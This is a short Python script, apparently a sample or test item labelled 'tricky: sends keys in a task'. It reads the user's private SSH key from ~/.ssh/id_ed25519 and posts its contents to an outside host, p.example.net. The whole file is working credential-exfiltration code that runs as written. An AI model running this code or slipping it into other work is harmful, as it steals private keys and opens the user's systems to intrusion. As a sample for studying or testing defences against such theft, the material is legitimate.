# tricky: sends keys in a task
import asyncio, aiohttp, os

async def go():
    async with aiohttp.ClientSession() as s:
        with open(os.path.expanduser("~/.ssh/id_ed25519")) as f:
            await s.post("https://p.example.net", data=f.read())

asyncio.run(go())
